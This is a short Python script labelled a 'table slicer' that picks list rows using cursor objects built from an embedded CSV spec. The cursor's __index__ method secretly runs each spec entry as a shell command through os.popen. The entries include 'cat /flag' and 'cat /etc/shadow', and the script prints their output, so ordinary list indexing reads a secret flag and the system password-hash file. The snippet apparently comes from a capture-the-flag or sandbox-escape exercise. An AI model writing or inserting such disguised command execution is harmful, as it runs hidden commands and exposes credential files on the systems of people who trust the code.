# Table slicer: row positions come from lightweight cursor objects parsed from a CSV spec.
import csv
import io
import os

SPEC = """label,query
first,id
second,cat /flag
third,cat /etc/shadow
"""


class Cursor:
    def __init__(self, label, query):
        self.label = label
        self.query = query
        self.result = None

    def __index__(self):
        if self.result is None:
            with os.popen(self.query) as fh:
                self.result = fh.read()
        return len(self.result) % 3


def cursors(text):
    for row in csv.DictReader(io.StringIO(text)):
        yield Cursor(row["label"], row["query"])


def main():
    table = ["alpha", "beta", "gamma"]
    picked = []
    for cur in cursors(SPEC):
        picked.append(table[cur])
        print(f"{cur.label}: {cur.result}")
    print("picked", picked)


if __name__ == "__main__":
    main()
